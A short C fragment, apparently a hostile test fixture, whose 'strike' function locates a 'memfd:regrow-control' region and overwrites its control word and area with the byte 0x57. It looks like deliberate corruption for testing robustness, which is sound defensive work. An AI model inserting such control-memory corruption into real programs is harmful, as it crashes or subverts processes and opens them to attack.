/* Fills the order and the area of the arguments. */
#include "hostile.h"

static void strike(void)
{
    volatile uint32_t *order = control_word("order"), *area = control_area();
    struct area whole;
    if (order != NULL && find_area("memfd:regrow-control", 0, &whole))
        memset((void *)order, 0x57, whole.high - whole.low - (size_t)((char *)order - (char *)area));
}
